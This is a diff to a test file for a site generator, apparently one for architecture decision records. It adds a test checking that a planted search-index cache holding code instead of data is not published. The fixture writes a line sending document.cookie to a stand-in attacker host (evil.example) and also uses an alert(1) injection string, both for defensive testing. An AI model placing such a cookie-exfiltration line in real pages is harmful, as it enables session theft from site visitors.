@@ -5,7 +5,7 @@ import { existsSync, mkdirSync, readdirSync, readFileSync, renameSync, statSync,
 import path from "node:path";
 import { resolveWorkspace } from "../../src/config/workspace.js";
 import { AdrgenError } from "../../src/domain/errors.js";
-import { buildSite, type BuildSiteOptions } from "../../src/site/build.js";
+import { buildSite, isDataScript, type BuildSiteOptions } from "../../src/site/build.js";
 import { SITE_MARKER } from "../../src/site/out-dir.js";
 import { nodeSiteWriterFs } from "../../src/site/site-writer.js";
 import { cleanupTempDirs, makeTempDir } from "../helpers/tmp.js";
@@ -319,6 +319,19 @@ describe("buildSite render cache", () => {
     const result = await build(dir);
     expect(result.rendered).toBe(4);
     for (const file of filesUnder(path.join(dir, ".adrgen/site"))) expect(readFileSync(path.join(dir, ".adrgen/site", file), "utf8")).not.toContain("PWNED_CACHE");
+  });
+
+  it("does not publish a planted search index cache that holds code instead of data", async () => {
+    const dir = repo();
+    await build(dir);
+    const cacheFile = path.join(dir, ".adrgen/cache/site-search-index.js");
+    const [header] = readFileSync(cacheFile, "utf8").split("\n");
+    writeFileSync(cacheFile, `${header}\nwindow.ADRGEN_SEARCH={};fetch("https://evil.example/?"+document.cookie);//PWNED_INDEX\n`);
+    await build(dir);
+    const index = readFileSync(path.join(dir, ".adrgen/site/assets/search-index.js"), "utf8");
+    expect(index).not.toContain("PWNED_INDEX");
+    expect(isDataScript(index)).toBe(true);
+    expect(isDataScript('window.ADRGEN_SEARCH={"a":1};alert(1);\n')).toBe(false);
   });
 
   it("keeps no cache with cache: false", async () => {
